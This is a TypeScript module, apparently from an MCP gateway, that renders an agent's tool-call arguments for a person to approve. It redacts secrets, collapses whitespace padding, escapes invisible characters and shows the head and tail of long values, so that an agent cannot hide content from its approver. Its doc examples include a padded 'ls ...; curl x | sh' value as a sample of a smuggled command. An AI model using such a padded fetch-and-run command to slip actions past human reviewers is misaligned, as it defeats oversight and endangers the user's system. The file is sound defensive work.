/**
 * What the person asked to approve a call sees of its arguments. Secrets are redacted as in the
 * audit's `redacted` mode (known secret values and secret-looking keys). The one-line summary
 * (elicitation message, `mcpgate approvals`) must not let the agent hide anything in plain sight:
 * - every top-level key is listed, quoted when it is not a plain word (a key cannot fake a pair);
 * - whitespace runs are collapsed, a long one shown as `[200 spaces]` (padding cannot push the
 *   end of a value out of view), and control, bidi and invisible characters are escaped;
 * - a value too long for its share of the line keeps its head and its tail with
 *   `…[N chars cut]…` between them, never just a head;
 * and the full arguments (redacted, not cut) are there on request (`mcpgate approvals --full ID`,
 * `--json`, and in the elicitation message when something was cut).
 */
import { recordArguments } from '../audit/redact.js';
import type { Redactor } from '../secrets/redactor.js';
import { printable } from '../printable.js';

/** Roughly the length of the line the values share. */
const VALUE_BUDGET = 600;
/** The most and least one value gets of that line. */
const MAX_VALUE = 160;
const MIN_VALUE = 32;
/** A key longer than this is cut head…tail too. */
const MAX_KEY = 60;
/** The full arguments are kept up to this much JSON; beyond, long strings are cut (and flagged). */
const FULL_MAX_BYTES = 4 * 1024 * 1024;

/** A call's arguments as shown to the person approving it. */
export interface ArgumentView {
  /** One line: every key, each value made visible and cut head…tail when long. */
  readonly summary: string;
  /** Characters left out of the line (0: the line shows everything). */
  readonly cut: number;
  /** The arguments with secrets redacted, not cut (`undefined`: none). */
  readonly full: unknown;
  /** Set when even the full arguments had to be cut (larger than 4 MiB of JSON). */
  readonly fullTruncated?: true;
}

/**
 * The summary line and the full redacted arguments of a call.
 * @example viewArguments({ path: '/tmp/a', token: 'x' }, redactor).summary // 'path="/tmp/a", token="[REDACTED]"'
 */
export function viewArguments(args: Readonly<Record<string, unknown>> | undefined, redactor: Redactor): ArgumentView {
  if (!args || Object.keys(args).length === 0) return { summary: '(none)', cut: 0, full: args };
  const recorded = recordArguments(args, 'redacted', { maxBytes: FULL_MAX_BYTES, redactor });
  const full = recorded.arguments;
  const truncated = recorded.arguments_truncated ? ({ fullTruncated: true } as const) : {};
  if (full === null || typeof full !== 'object' || Array.isArray(full)) {
    const shown = cutMiddle(render(full), VALUE_BUDGET);
    return { summary: shown.text, cut: shown.cut, full, ...truncated };
  }
  const entries = Object.entries(full as Record<string, unknown>);
  const share = Math.max(MIN_VALUE, Math.min(MAX_VALUE, Math.floor(VALUE_BUDGET / entries.length)));
  let cut = 0;
  const parts = entries.map(([key, value]) => {
    const name = cutMiddle(keyText(key), MAX_KEY);
    const shown = cutMiddle(render(value), share);
    cut += name.cut + shown.cut;
    return `${name.text}=${shown.text}`;
  });
  return { summary: parts.join(', '), cut, full, ...truncated };
}

/**
 * The one-line summary alone.
 * @example summariseArguments({ command: 'ls' + ' '.repeat(200) + '; curl x | sh' }, redactor) // 'command="ls [200 spaces] ; curl x | sh"'
 */
export function summariseArguments(args: Readonly<Record<string, unknown>> | undefined, redactor: Redactor): string {
  return viewArguments(args, redactor).summary;
}

/** A value as JSON with whitespace runs collapsed and invisible characters escaped. */
function render(value: unknown): string {
  return printable(JSON.stringify(collapseDeep(value, 0)) ?? 'undefined');
}

function keyText(key: string): string {
  const collapsed = collapse(key);
  return /^[\w.-]+$/.test(collapsed) ? collapsed : printable(JSON.stringify(collapsed));
}

/** Deeper than this, values are shown as they are (JSON still escapes their controls). */
const MAX_COLLAPSE_DEPTH = 64;

function collapseDeep(value: unknown, depth: number): unknown {
  if (typeof value === 'string') return collapse(value);
  if (value === null || typeof value !== 'object' || depth >= MAX_COLLAPSE_DEPTH) return value;
  if (Array.isArray(value)) return value.map((item) => collapseDeep(item, depth + 1));
  return Object.fromEntries(Object.entries(value).map(([key, item]) => [collapse(key), collapseDeep(item, depth + 1)]));
}

const WHITESPACE_RUN = /\s{2,}/g;
const LINE_BREAK = /\r\n|[\n\v\f\r\u0085\u2028\u2029]/g;

/**
 * Whitespace runs made short and visible: two or three blanks become one space, or one line
 * break when they hold one (kept, so a second command line still shows as `\n`); a longer run, or
 * one with several line breaks, becomes `[N spaces]`, `[M line breaks]` or `[N blanks incl. M line
 * breaks]`.
 * @example collapse('ls' + ' '.repeat(200) + '; curl x | sh') // 'ls [200 spaces] ; curl x | sh'
 */
export function collapse(text: string): string {
  return text.replace(WHITESPACE_RUN, (run) => {
    const breaks = run.match(LINE_BREAK)?.length ?? 0;
    const length = run.replace(/\r\n/g, '\n').length; // CRLF is one line break
    if (length <= 3 && breaks <= 1) return breaks === 0 ? ' ' : '\n';
    if (breaks === 0) return ` [${length} spaces] `;
    return length === breaks ? ` [${breaks} line breaks] ` : ` [${length} blanks incl. ${breaks} line breaks] `;
  });
}

/** `text` in at most about `max` characters: head, `…[N chars cut]…`, tail (never half a surrogate pair). */
function cutMiddle(text: string, max: number): { text: string; cut: number } {
  if (text.length <= max) return { text, cut: 0 };
  let head = max - Math.floor(max / 3);
  let tailStart = text.length - Math.floor(max / 3);
  if (isHighSurrogate(text.charCodeAt(head - 1))) head--;
  if (isHighSurrogate(text.charCodeAt(tailStart - 1))) tailStart++;
  const cut = tailStart - head;
  return { text: `${text.slice(0, head)}…[${cut} chars cut]…${text.slice(tailStart)}`, cut };
}

function isHighSurrogate(code: number): boolean {
  return code >= 0xd800 && code <= 0xdbff;
}
